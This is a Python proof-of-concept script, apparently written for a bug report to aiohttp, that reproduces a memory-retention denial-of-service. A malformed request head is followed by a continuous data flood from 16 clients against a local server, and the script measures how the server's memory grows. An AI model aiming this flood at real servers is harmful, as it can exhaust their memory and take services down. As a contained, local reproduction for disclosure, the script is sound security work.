"""Reproduces that aiohttp's server keeps the data behind a malformed request: for a report to aiohttp, without askd.

After a malformed head, aiohttp feeds all further data of the connection to the parser that has failed. Each part makes
another exception, whose traceback refers to the data, in a cycle that only a full garbage collection frees. 16 clients
made 36 MB into 257 MB in 10 s (aiohttp 3.14.5, Python 3.11, two cores):

    python aiohttp_malformed.py

It prints the resident memory of the server every half second. AIOHTTP_NO_EXTENSIONS=1 uses the parser in Python. The
server may use 1 GB of addresses at most (RLIMIT_AS), the clients stop after 10 s, and everything is on 127.0.0.1. Exit
code 1: the memory has grown by more than 100 MB.
"""

import asyncio
import contextlib
import os
import resource
import sys
from pathlib import Path

from aiohttp import __version__, web

CLIENTS = 16
SECONDS = 10.0
MAX_ADDRESS_SPACE = 1 << 30
GROWTH = 100 << 20
MALFORMED = b"GET / HTTP/1.1\r\nbad\x00\r\n\r\n"
DATA = b"x" * (256 << 10)


def resident_bytes(pid: int) -> int:
    """Return the resident memory of a process; 0 if it has ended."""
    try:
        return int(Path(f"/proc/{pid}/statm").read_text(encoding="ascii").split()[1]) * os.sysconf("SC_PAGE_SIZE")
    except (OSError, IndexError):
        return 0


async def serve() -> None:
    """Serve an empty app, and print its port."""
    runner = web.AppRunner(web.Application())
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    print(runner.addresses[0][1], flush=True)
    await asyncio.sleep(2 * SECONDS)


async def attack(port: int) -> None:
    """Send a malformed request and data behind it, again and again."""
    while True:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            try:
                writer.write(MALFORMED)
                while True:
                    writer.write(DATA)
                    await writer.drain()
                    await asyncio.sleep(0)
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.01)


async def main() -> int:
    """Start the server, attack it, and watch its memory. Returns the exit code."""
    server = await asyncio.create_subprocess_exec(
        *(sys.executable, __file__, "serve"),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (MAX_ADDRESS_SPACE, MAX_ADDRESS_SPACE)),
    )
    assert server.stdout is not None
    port = int(await server.stdout.readline())
    first = largest = resident_bytes(server.pid)
    print(f"aiohttp {__version__}, {CLIENTS} clients, {first >> 20} MB at the start")
    clients = [asyncio.create_task(attack(port)) for _ in range(CLIENTS)]
    for step in range(int(2 * SECONDS)):
        await asyncio.sleep(0.5)
        now = resident_bytes(server.pid)
        largest = max(largest, now)
        print(f"{(step + 1) / 2:4.1f} s  {now >> 20} MB")
        if largest > MAX_ADDRESS_SPACE // 2 or not now:
            break
    for client in clients:
        client.cancel()
    await asyncio.gather(*clients, return_exceptions=True)
    if server.returncode is None:
        server.kill()
    await server.wait()
    return int(largest - first > GROWTH)


if __name__ == "__main__":
    sys.exit(asyncio.run(serve() if sys.argv[1:] == ["serve"] else main()))
